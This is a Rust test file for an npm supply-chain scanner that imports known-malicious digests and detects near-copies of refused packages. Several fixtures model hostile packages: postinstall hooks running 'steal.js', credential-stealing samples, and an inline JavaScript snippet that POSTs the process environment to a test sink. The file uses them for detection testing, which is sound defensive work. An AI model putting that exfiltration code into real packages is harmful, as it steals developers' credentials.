//! Content that others found to be malicious: digests, files and packages that an operator takes in.

use weir_testing::samples::{NPM_CREDENTIALS, aimed_at};
use weir_testing::tarball::{Entry, sha256, tgz};
use weir_testing::{Package, Registry, Release, Sink};

use crate::support::World;

const MANIFEST: &str = r#"{"name": "left-lib", "version": "1.4.1"}"#;

/// Code that says nothing by itself, long enough to be compared.
fn code(name: &str) -> String {
    format!(
        "exports.{name} = function (list) {{\n  return list.map((one) => one.{name}).filter(Boolean);\n}};\n"
    )
    .repeat(4)
}

/// SHA-256 of a file, as people list it.
fn digest(text: &str) -> String {
    sha256(text.as_bytes())
}

fn package(world: &World, file: &str, entries: &[(&str, &str)]) -> String {
    let entries: Vec<Entry> = entries
        .iter()
        .map(|(path, text)| Entry::file(format!("package/{path}"), *text))
        .collect();
    let path = world.write(&format!("work/{file}"), tgz(&entries));
    path.to_str().unwrap().to_owned()
}

#[test]
fn a_listed_file_blocks_whatever_package_it_is_in_until_it_is_forgotten() {
    let (world, registry) = (World::new(), Registry::start());
    let (bad, good) = (code("totals"), code("names"));
    let file = package(
        &world,
        "copy.tgz",
        &[("package.json", MANIFEST), ("index.js", &bad)],
    );
    let other = package(
        &world,
        "other.tgz",
        &[("package.json", MANIFEST), ("index.js", &good)],
    );
    let inspect = |file: &str| world.run_before(&registry, &["inspect", "--json", file]);
    assert!(!inspect(&file).stdout.contains("known-bad-content"));

    let list = format!("# seen elsewhere\n{}  index.js of a worm\n", digest(&bad));
    world.write("work/worms.txt", list);
    let run = world.run_before(&registry, &["known-bad", "import", "worms.txt"]);
    run.assert_success();
    assert!(run.stdout.contains("1 digest taken in"), "{}", run.text());

    let run = inspect(&file);
    assert_eq!(run.code, Some(4), "{}", run.text());
    assert!(
        run.stdout
            .contains("index.js is byte for byte content that worms.txt:2 lists as malicious"),
        "{}",
        run.text()
    );
    assert!(!inspect(&other).stdout.contains("known-bad-content"));

    let shown = world.run(&["known-bad", "show"]).stdout;
    assert!(shown.contains("index.js of a worm"), "{shown}");
    let known = shown.split_whitespace().next().unwrap();
    world.run(&["known-bad", "forget", known]).assert_success();
    assert!(!inspect(&file).stdout.contains("known-bad-content"));
    let run = world.run(&["known-bad", "forget", known]);
    assert_eq!(run.code, Some(1), "{}", run.text());
}

#[test]
fn a_folder_of_samples_is_taken_in_and_what_cannot_be_used_is_named() {
    let (world, registry) = (World::new(), Registry::start());
    let bad = code("payload");
    let hook =
        r#"{"name": "right-lib", "version": "2.0.1", "scripts": {"postinstall": "node run.js"}}"#;
    world.write("work/samples/deep/run.js", &bad);
    world.write("work/samples/short.js", "x()");
    world.write(
        "work/samples/list.txt",
        format!(
            "{}\nnonsense\nd41d8cd98f00b204e9800998ecf8427e\n",
            digest("x")
        ),
    );
    package(
        &world,
        "samples/whole.tgz",
        &[("package.json", hook), ("run.js", &bad)],
    );
    world.write("work/samples/broken.tgz", b"no archive");
    let run = world.run_before(&registry, &["known-bad", "import", "samples"]);
    assert_eq!(run.code, Some(1), "{}", run.text());
    for named in [
        "list.txt:2: \"nonsense\" is no SHA-256 digest",
        "list.txt:3: 32 digits, which looks like MD5",
        "short.js: 3 bytes are too few",
        "broken.tgz: ",
    ] {
        assert!(run.stderr.contains(named), "{named}\n{}", run.text());
    }
    assert!(run.stdout.contains("3 digests taken in"), "{}", run.text());

    // The same code and hook under another name.
    let renamed = hook.replace("right-lib", "quite-new");
    let copy = package(
        &world,
        "copy.tgz",
        &[("package.json", &renamed), ("run.js", &bad)],
    );
    let run = world.run_before(&registry, &["inspect", &copy]);
    assert_eq!(run.code, Some(4), "{}", run.text());
}

/// The licence of a malicious package is that of honest ones.
#[test]
fn an_unpacked_package_is_read_as_one_and_not_file_by_file() {
    let (world, registry, sink) = (World::new(), Registry::start(), Sink::start());
    let (licence, shared) = ("Anybody may use it. ".repeat(30), code("shared"));
    let hook =
        r#"{"name": "right-lib", "version": "2.0.1", "scripts": {"postinstall": "node run.js"}}"#;
    let bad = aimed_at(NPM_CREDENTIALS, &sink.url());
    for (file, text) in [
        ("LICENSE", licence.as_str()),
        ("index.js", &shared),
        ("package.json", hook),
        ("run.js", &bad),
    ] {
        world.write(&format!("work/samples/right-lib/{file}"), text);
    }
    let run = world.run_before(&registry, &["known-bad", "import", "samples"]);
    run.assert_success();
    let shown = world.run(&["known-bad", "show"]).stdout;
    assert!(shown.contains("samples/right-lib, run.js"), "{shown}");
    assert!(!shown.contains("LICENSE"), "{shown}");
    // Honest packages with the same files.
    let honest = package(
        &world,
        "honest.tgz",
        &[
            ("package.json", MANIFEST),
            ("LICENSE", &licence),
            ("index.js", &shared),
        ],
    );
    let run = world.run_before(&registry, &["inspect", &honest]);
    assert!(!run.says("known-bad-content"), "{}", run.text());
    let copy = package(
        &world,
        "copy.tgz",
        &[("package.json", MANIFEST), ("lib/odd.js", &bad)],
    );
    let run = world.run_before(&registry, &["inspect", &copy]);
    assert!(run.says("known-bad-content"), "{}", run.text());
    assert_eq!(run.code, Some(4), "{}", run.text());
}

#[test]
fn what_honest_packages_have_too_is_not_taken_for_malicious() {
    let (world, registry) = (World::new(), Registry::start());
    let text = "Anybody may use it. ".repeat(30);
    let ordinary = [
        "LICENSE",
        "licence.txt",
        "README.md",
        "docs/usage.md",
        "index.d.ts",
        "yarn.lock",
    ];
    for file in ordinary {
        world.write(&format!("work/loose/{file}"), &text);
    }
    world.write("work/loose/license-check.js", code("payload"));
    let run = world.run_before(&registry, &["known-bad", "import", "loose"]);
    assert!(
        run.assert_success().stdout.contains("1 digest taken in"),
        "{}",
        run.text()
    );
    assert!(
        run.says("left out 6 files, loose/LICENSE first"),
        "{}",
        run.text()
    );
    // By a slip.
    for file in ["loose/LICENSE", "loose/yarn.lock"] {
        let run = world.run_before(&registry, &["known-bad", "import", file]);
        assert_eq!(run.code, Some(1), "{}", run.text());
        assert!(
            run.says("honest packages have the same file"),
            "{}",
            run.text()
        );
    }
    assert_eq!(world.run(&["known-bad", "show"]).stdout.lines().count(), 1);
}

#[test]
fn a_path_that_is_not_there_does_not_keep_the_others_out() {
    let (world, registry) = (World::new(), Registry::start());
    for (file, text) in [("a.txt", "a"), ("b.txt", "b")] {
        world.write(&format!("work/{file}"), digest(text));
    }
    let paths = ["a.txt", "nowhere", "b.txt", "nor-here.tgz"];
    let run = world.run_before(&registry, &[&["known-bad", "import"][..], &paths].concat());
    assert_eq!(run.code, Some(1), "{}", run.text());
    assert!(run.stdout.contains("2 digests taken in"), "{}", run.text());
    for missing in ["nowhere: ", "nor-here.tgz: "] {
        assert!(run.stderr.contains(missing), "{}", run.text());
    }
}

#[test]
fn an_archive_that_is_not_whole_teaches_nothing() {
    let (world, registry) = (World::new(), Registry::start());
    let bad = code("payload");
    let hook =
        r#"{"name": "right-lib", "version": "2.0.1", "scripts": {"postinstall": "node run.js"}}"#;
    let file = package(
        &world,
        "whole.tgz",
        &[("package.json", hook), ("run.js", &bad), ("more.js", &bad)],
    );
    let whole = std::fs::read(&file).unwrap();
    let mut flipped = whole.clone();
    let checksum = flipped.len() - 8;
    flipped[checksum] ^= 1;
    for (name, bytes) in [
        ("empty.tgz", Vec::new()),
        ("text.tgz", b"no archive, but a text".to_vec()),
        ("half.tgz", whole[..whole.len() / 2].to_vec()),
        ("short.tgz", whole[..whole.len() - 20].to_vec()),
        ("flipped.tgz", flipped),
        ("no-file.tgz", tgz(&[]).to_vec()),
    ] {
        world.write(&format!("work/{name}"), bytes);
        let run = world.run_before(&registry, &["known-bad", "import", name]);
        assert_eq!(run.code, Some(1), "{name}: {}", run.text());
        assert!(
            run.stderr.contains(&format!("{name}: ")) && run.stderr.contains("nothing was learned"),
            "{name}: {}",
            run.text()
        );
        assert!(!run.stderr.contains("nothing in it runs"), "{}", run.text());
        assert_eq!(world.run(&["known-bad", "show"]).stdout, "", "{name}");
    }
    let run = world.run_before(&registry, &["known-bad", "import", "whole.tgz"]);
    run.assert_success();
    // The digest of all its code is taken as it is printed, too.
    let shown = world.run(&["known-bad", "show"]).stdout;
    let all_code = shown.split_whitespace().next().unwrap();
    assert!(all_code.starts_with("whole:"), "{shown}");
    world
        .run(&["known-bad", "forget", all_code])
        .assert_success();
    assert_eq!(world.run(&["known-bad", "show"]).stdout, "");
}

#[test]
fn a_digest_is_forgotten_by_its_whole_or_a_beginning_that_is_its_alone() {
    let (world, registry) = (World::new(), Registry::start());
    let (one, other) = (digest("one"), digest("other"));
    let alike = format!("{}{}", &one[..10], &other[10..]);
    world.write("work/list.txt", format!("{one}\n{other}\n{alike}\n"));
    let known = || world.run(&["known-bad", "show"]).stdout.lines().count();
    let import = || {
        world
            .run_before(&registry, &["known-bad", "import", "list.txt"])
            .assert_success();
    };
    let loud = format!("sha256:{}", one.to_uppercase());
    for what in [one.as_str(), &one[..32], &one[..12], &loud] {
        import();
        world.run(&["known-bad", "forget", what]).assert_success();
        assert_eq!(known(), 2, "{what}");
    }
    import();
    let several = world.run(&["known-bad", "forget", &one[..10]]);
    assert_eq!(several.code, Some(1), "{}", several.text());
    for digest in [&one[..32], &alike[..32]] {
        assert!(several.stderr.contains(digest), "{}", several.text());
    }
    for unknown in [&one[..7], "ffffffff", "%"] {
        let run = world.run(&["known-bad", "forget", unknown]);
        assert_eq!(run.code, Some(1), "{unknown}: {}", run.text());
    }
    assert_eq!(known(), 3);
}

/// Who imported a folder wrongly takes back all of it, and nothing else.
#[test]
fn an_import_is_taken_back_by_the_path_it_was_given_as() {
    let (world, registry) = (World::new(), Registry::start());
    let manifest = r#"{"name": "right-lib", "version": "2.0.1"}"#;
    let known = || world.run(&["known-bad", "show"]).stdout.lines().count();
    let import = || {
        world.write("work/samples/deep/run.js", code("one"));
        world.write("work/samples/list.txt", digest("two"));
        package(
            &world,
            "samples/right-lib.tgz",
            &[
                ("package.json", manifest),
                ("index.js", &library("drop.invalid")),
            ],
        );
        world.write("work/samples-of-others/run.js", code("three"));
        world.write("work/list.txt", digest("four"));
        let paths = [
            "known-bad",
            "import",
            "samples",
            "samples-of-others",
            "list.txt",
        ];
        world.run_before(&registry, &paths).assert_success();
    };
    import();
    let all = known();
    for (source, told, left) in [
        ("samples/", "and near copies of 1 package", 2),
        ("samples", "and near copies of 1 package", 2),
        (
            "samples/deep",
            "1 digest forgotten, and near copies of 0 packages",
            all - 1,
        ),
        ("samples/list.txt", "1 digest forgotten", all - 1),
        ("list.txt", "1 digest forgotten", all - 1),
    ] {
        import();
        assert_eq!(known(), all, "{source}");
        let run = world.run(&["known-bad", "forget", source]);
        run.assert_success();
        assert!(run.stdout.contains(told), "{source}: {}", run.text());
        assert_eq!(known(), left, "{source}");
    }
    import();
    for unknown in ["sample", "samples/dee", "elsewhere", "/"] {
        let run = world.run(&["known-bad", "forget", unknown]);
        assert_eq!(run.code, Some(1), "{unknown}: {}", run.text());
        assert_eq!(known(), all, "{unknown}");
    }
}

/// A library with enough members and words in it to be told from others, which knows one host.
fn library(host: &str) -> String {
    let mut text = format!("'use strict';\nexports.home = 'https://{host}/';\n");
    for number in 0..120 {
        text.push_str(&format!(
            "exports.operation{number} = (options) => options.first{number}.map((one) => one.part{number}(\
             'word{number}')).filter(Boolean);\n"
        ));
    }
    text
}

#[test]
fn a_near_copy_at_hand_is_told_whatever_it_calls_itself() {
    let (world, registry) = (World::new(), Registry::start());
    let manifest =
        |name: &str, version: &str| format!(r#"{{"name": "{name}", "version": "{version}"}}"#);
    let make = |file: &str, name: &str, version: &str, code: &str| {
        let manifest = manifest(name, version);
        package(
            &world,
            file,
            &[("package.json", &manifest), ("index.js", code)],
        )
    };
    let evil = make(
        "evil.tgz",
        "right-lib",
        "2.0.1",
        &library("collector.invalid"),
    );
    let run = world.run_before(&registry, &["known-bad", "import", "evil.tgz"]);
    run.assert_success();
    let inspect = |what: &str| {
        let run = world.run_before(&registry, &["inspect", "--json", what]);
        run.stdout
    };
    let other = library("drop.invalid");
    let told =
        "of its code is that of right-lib@2.0.1, which was refused: listed as malicious (evil.tgz)";
    for (name, version) in [
        ("quite-new", "1.0.0"),
        ("right-lib", "2.0.1"),
        ("right-lib", "2.0.2"),
    ] {
        let found = inspect(&make("copy.tgz", name, version, &other));
        assert!(found.contains(told), "{name}@{version}: {found}");
    }
    assert!(inspect(&evil).contains(told));
    let unlike = inspect(&make("unlike.tgz", "quite-new", "1.0.0", &code("totals")));
    assert!(!unlike.contains("near-copy"), "{unlike}");

    world.write("work/copy/index.js", &other);
    let folder = world.write("work/copy/package.json", manifest("quite-new", "1.0.0"));
    let found = inspect(folder.parent().unwrap().to_str().unwrap());
    assert!(found.contains(told), "{found}");
}

#[test]
fn what_could_not_be_compared_at_hand_is_a_gap() {
    let (world, registry) = (World::new(), Registry::start());
    let file = package(
        &world,
        "crossenv.tgz",
        &[
            (
                "package.json",
                r#"{"name": "crossenv", "version": "7.0.4"}"#,
            ),
            ("index.js", &library("docs.example")),
        ],
    );
    let inspect = || {
        world
            .run_before(&registry, &["inspect", "--json", &file])
            .stdout
    };
    let gap = r#""what":"comparison with cross-env""#;
    assert!(inspect().contains(gap), "{}", inspect());

    // Once the other has been seen here, there is something to compare with.
    registry.add(
        Package::new("cross-env").maintainer("kent").release(
            Release::new("7.0.3")
                .published("2020-01-01T00:00:00Z")
                .file("index.js", library("docs.example")),
        ),
    );
    world.run_before(&registry, &["inspect", "cross-env@7.0.3"]);
    let found = inspect();
    assert!(!found.contains(gap), "{found}");
    assert!(
        found.contains("of its code is that of cross-env@7.0.3"),
        "{found}"
    );
}

/// A tool that few use, of thirty months and as many releases, whose hook leads to code that sends what it reads from
/// a release on: that is misread, or known to everybody by now.
fn long_standing(name: &str, thief: &str, since: usize) -> Package {
    let months = (0..30).map(|number| {
        let (year, month) = (2024 + (4 + number) / 12, (4 + number) % 12 + 1);
        let code = match number < since {
            true => "exports.nothing = 1;\n",
            false => thief,
        };
        Release::new(format!("1.{number}.0"))
            .published(&format!("{year}-{month:02}-01T09:00:00Z"))
            .script("postinstall", "node after.js")
            .file("after.js", code)
    });
    months.fold(Package::new(name).maintainer("ines"), Package::release)
}

#[test]
fn code_alone_neither_decides_on_a_long_habit_nor_teaches() {
    let (world, sink, registry) = (World::new(), Sink::start(), Registry::start());
    let thief = aimed_at(NPM_CREDENTIALS, &sink.url());
    registry.add(long_standing("harbour-tool", &thief, 0));
    registry.add(long_standing("quayside-tool", &thief, 29));
    let inspect = |what: &str| {
        let run = world.run_before(&registry, &["inspect", "--json", what]);
        run.stdout
    };
    let decisive = r#""decisive":true"#;

    // The same for thirty months, in releases that nobody ever called hostile.
    let habit = inspect("harbour-tool@1.29.0");
    assert!(habit.contains("credential-exfiltration"), "{habit}");
    assert!(!habit.contains(decisive), "{habit}");
    // With too little before it that decides, and is no reason to refuse what came after it.
    let early = inspect("harbour-tool@1.10.0");
    assert!(early.contains(decisive), "{early}");
    let known = world.run(&["known-bad", "show"]).stdout;
    assert!(!known.contains("harbour-tool"), "{known}");

    // The first release of an attack does what the one before did not, and copies of it are known.
    let first = inspect("quayside-tool@1.29.0");
    assert!(first.contains(decisive), "{first}");
    let known = world.run(&["known-bad", "show"]).stdout;
    assert!(known.contains("quayside-tool@1.29.0, after.js"), "{known}");
    sink.assert_untouched();
}

/// A library that reads a file for whoever asks, as honest packages bundle it.
fn reader() -> String {
    let mut text = String::from(
        "'use strict';\nconst fs = require('fs');\nexports.read = function (path) {\n  \
         return fs.readFileSync(path, 'utf8');\n};\nexports.environment = function () {\n  \
         return JSON.stringify(process.env);\n};\n",
    );
    text.push_str(&library("docs.example"));
    text
}

#[test]
fn files_of_honest_packages_in_a_hostile_one_are_not_held_against_them() {
    let (world, sink, registry) = (World::new(), Sink::start(), Registry::start());
    let reader = reader();
    let thief = format!(
        "const reader = require('./lib/reader.js');\nconst http = require('http');\n\
         const gone = http.request('{}', {{ method: 'POST' }});\n\
         gone.end(reader.environment());\n",
        sink.url()
    );
    let own = aimed_at(NPM_CREDENTIALS, &sink.url());
    registry.add(
        Package::new("grey-heron").maintainer("grey").release(
            Release::new("1.0.0")
                .published("2026-11-14T09:00:00Z")
                .script("postinstall", "node setup.js && node steal.js")
                .file("index.js", "exports.nothing = 1;\n")
                .file("lib/reader.js", reader.as_str())
                .file("setup.js", thief)
                .file("steal.js", own.as_str()),
        ),
    );
    let honest = |name: &str, published: &str| {
        Package::new(name).maintainer("hon").release(
            Release::new("1.0.0")
                .published(published)
                .script("postinstall", "node vendor/reader.js")
                .file("index.js", "exports.it = require('./vendor/reader.js');\n")
                .file("vendor/reader.js", reader.as_str()),
        )
    };
    registry.add(honest("honest-application", "2026-11-16T09:00:00Z"));
    let inspect = |what: &str| {
        let run = world.run_before(&registry, &["inspect", "--json", what]);
        run.stdout
    };
    let refused = inspect("grey-heron@1.0.0");
    assert!(refused.contains(r#""decisive":true"#), "{refused}");
    let known = world.run(&["known-bad", "show"]).stdout;
    assert!(known.contains("grey-heron@1.0.0, steal.js"), "{known}");
    assert!(
        !known.contains("grey-heron@1.0.0, lib/reader.js  "),
        "{known}"
    );
    assert!(
        known.contains("grey-heron@1.0.0  near copies of it"),
        "{known}"
    );
    let fine = inspect("honest-application@1.0.0");
    assert!(!fine.contains("known-bad-content"), "{fine}");
    sink.assert_untouched();
}

/// What stole elsewhere: `published` says when a package first had it.
fn with_thief(name: &str, by: &str, thief: &str, published: &[&str]) -> Package {
    let releases = published.iter().enumerate().map(|(number, published)| {
        Release::new(format!("1.{number}.0"))
            .published(published)
            .script("postinstall", "node setup.js")
            .file("index.js", library(&format!("{name}.example")))
            .file("setup.js", thief)
    });
    releases.fold(Package::new(name).maintainer(by), Package::release)
}

#[test]
fn who_had_it_long_before_is_no_copy_and_who_had_it_a_little_before_is() {
    let (world, sink, registry) = (World::new(), Sink::start(), Registry::start());
    let thief = aimed_at(NPM_CREDENTIALS, &sink.url());
    registry.add(with_thief(
        "marsh-copy",
        "mallory",
        &thief,
        &["2026-11-15T09:00:00Z"],
    ));
    let original = [
        "2025-01-01T09:00:00Z",
        "2025-12-01T09:00:00Z",
        "2026-11-18T09:00:00Z",
    ];
    registry.add(with_thief("willow-dates", "ines", &thief, &original));
    let sibling = ["2026-11-14T09:00:00Z", "2026-11-18T09:00:00Z"];
    registry.add(with_thief("moss-runner", "mallory", &thief, &sibling));
    let inspect = |what: &str| {
        let run = world.run_before(&registry, &["inspect", "--json", what]);
        run.stdout
    };
    let refused = inspect("marsh-copy@1.0.0");
    assert!(refused.contains(r#""decisive":true"#), "{refused}");
    for signal in ["known-bad-content", "near-copy"] {
        let copy = inspect("moss-runner@1.1.0");
        assert!(copy.contains(signal), "{signal}: {copy}");
        let original = inspect("willow-dates@1.2.0");
        assert!(!original.contains(signal), "{signal}: {original}");
    }
    sink.assert_untouched();
}

#[test]
fn near_copies_of_each_version_that_was_taken_in_are_told() {
    let (world, registry) = (World::new(), Registry::start());
    let other = |text: String| {
        text.replace("operation", "task")
            .replace("word", "saying")
            .replace("part", "piece")
    };
    let versions = [
        ("1.0.0", library("collector.invalid")),
        (
            "2.0.0",
            other(library("collector.invalid")).replace("first", "second"),
        ),
    ];
    for (version, code) in &versions {
        let manifest = format!(r#"{{"name": "sample-x", "version": "{version}"}}"#);
        let file = format!("samples/x-{version}.tgz");
        package(
            &world,
            &file,
            &[("package.json", &manifest), ("index.js", code)],
        );
    }
    let run = world.run_before(&registry, &["known-bad", "import", "samples"]);
    run.assert_success();
    let shown = || world.run(&["known-bad", "show"]).stdout;
    for (version, code) in &versions {
        let listed = format!("sample-x@{version}  near copies of it  listed as malicious");
        assert!(shown().contains(&listed), "{}", shown());
        let file = package(
            &world,
            "copy.tgz",
            &[("package.json", MANIFEST), ("index.js", code)],
        );
        let found = world.run_before(&registry, &["inspect", "--json", &file]);
        let told = format!("that of sample-x@{version}, which was refused");
        assert!(found.stdout.contains(&told), "{}", found.text());
    }
    let forget = |what: &str| world.run(&["known-bad", "forget", what]);
    forget("sample-x@1.0.0").assert_success();
    assert!(!shown().contains("sample-x@1.0.0") && shown().contains("sample-x@2.0.0"));
    forget("sample-x").assert_success();
    assert_eq!(shown(), "");
}

#[cfg(unix)]
#[test]
fn names_of_samples_are_told_without_what_a_terminal_obeys() {
    let (world, registry) = (World::new(), Registry::start());
    world.write("work/samples/a.txt", digest("a"));
    let link = world.write("work/aside", "x").with_file_name("samples");
    std::os::unix::fs::symlink("../aside", link.join("ln\u{1b}[31mred")).unwrap();
    let run = world.run_before(&registry, &["known-bad", "import", "samples"]);
    assert_eq!(run.code, Some(1), "{}", run.text());
    assert!(run.stderr.contains("no regular file"), "{}", run.text());
    assert!(!run.stderr.contains('\u{1b}'), "{:?}", run.stderr);
}
